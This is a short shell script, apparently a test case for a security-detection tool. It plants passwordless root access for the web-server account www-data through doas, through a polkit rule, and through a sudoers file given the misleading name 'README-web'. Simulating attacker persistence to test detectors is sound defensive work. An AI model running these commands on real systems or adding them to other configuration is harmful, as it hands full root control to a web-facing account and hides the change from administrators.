#!/bin/sh
. /opt/case/case.sh

mkdir -p /etc/polkit-1/rules.d /etc/sudoers.d
echo 'permit nopass www-data as root' >/etc/doas.conf
printf 'polkit.addRule(function(a, s) { if (s.user == "www-data") return polkit.Result.YES; });\n' >/etc/polkit-1/rules.d/49-web.rules
install -m 440 /dev/stdin /etc/sudoers.d/README-web <<'END'
www-data ALL=(ALL:ALL) NOPASSWD: ALL
END
test -s /etc/sudoers.d/README-web
took_place
